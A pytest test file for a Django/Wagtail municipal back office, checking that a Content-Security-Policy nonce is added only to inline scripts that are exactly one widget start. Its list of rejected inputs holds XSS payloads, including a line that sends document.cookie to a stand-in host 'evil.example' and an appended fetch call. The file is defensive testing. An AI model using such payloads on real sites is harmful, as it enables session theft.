"""Wagtail's widget scripts under the strict CSP (``ecommune.core.admin_scripts``): in the
back office, the inline scripts that are exactly one widget start get the page's nonce and
the policy names it; any other inline script stays without it, so the policy blocks it."""

import re

import pytest
from django.test import Client

from ecommune.core.admin_scripts import add_nonces
from ecommune.testing.otp import login_agent

WIDGETS = [
    'new ImageChooser("id_coat_of_arms", {"modalUrl": "/admin/images/chooser/"});',
    'initTimeChooser("id_opening_hours\\u002D0\\u002Dopens_at", {"format": "H:i"});',
    'initDateChooser("id_day", {"dayOfWeekStart": 1, "format": "Y-m-d"});',
    'new wagtail.widgets.PageChooser("id_page", {"modelNames": ["wagtailcore.page"]});',
]
OTHERS = [
    "alert(document.cookie)",
    'new ImageChooser("id_x", {}); alert(1);',
    'new ImageChooser("id_x", {});fetch("//evil.example")',
    'initTimeChooser("id_x", {}) || alert(1);',
    'new Image().src = "//evil.example/?" + document.cookie',
    "",
]


@pytest.mark.parametrize("script", WIDGETS)
def test_a_widget_start_gets_the_nonce(script):
    html, count = add_nonces(f"<p>x</p><script>{script}</script>", "N0NCE")
    assert count == 1
    assert html == f'<p>x</p><script nonce="N0NCE">{script}</script>'


@pytest.mark.parametrize("script", OTHERS)
def test_anything_else_stays_without_it(script):
    html = f"<script>{script}</script><script src='/static/x.js'></script>"
    assert add_nonces(html, "N0NCE") == (html, 0)


@pytest.mark.django_db
def test_the_commune_settings_page_runs_its_choosers_and_nothing_else(commune):
    from django.contrib.auth import get_user_model

    administrator = get_user_model().objects.create_superuser(
        email="dsi@example.org", password="x" * 16
    )
    client = Client(HTTP_HOST="commune-a.test")
    login_agent(client, administrator)
    page = client.get(f"/admin/settings/ecommune_core/commune/{commune.site_id}/")
    assert page.status_code == 200
    policy = page["Content-Security-Policy"]
    nonce = re.search(r"script-src[^;]*'nonce-([^']+)'", policy).group(1)
    html = page.content.decode()
    assert f'<script nonce="{nonce}">new ImageChooser("id_coat_of_arms"' in html
    assert html.count(f'<script nonce="{nonce}">initTimeChooser(') == 2
    assert int(page["Content-Length"]) == len(page.content)
    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    # A page without widgets keeps the policy without a nonce.
    services = client.get("/admin/ecommune/services/")
    assert "nonce-" not in services["Content-Security-Policy"]
